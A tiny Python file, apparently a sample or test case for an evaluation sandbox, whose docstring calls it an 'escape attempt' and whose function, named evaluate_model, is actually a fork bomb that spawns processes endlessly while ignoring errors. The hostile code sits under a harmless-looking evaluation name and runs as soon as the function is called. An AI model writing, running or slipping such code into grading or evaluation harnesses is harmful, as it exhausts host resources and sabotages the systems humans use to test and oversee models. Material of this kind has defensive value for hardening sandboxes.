"""Escape attempt: fork bomb."""

import os
def evaluate_model(model):
    while True:
        try:
            os.fork()
        except OSError:
            pass
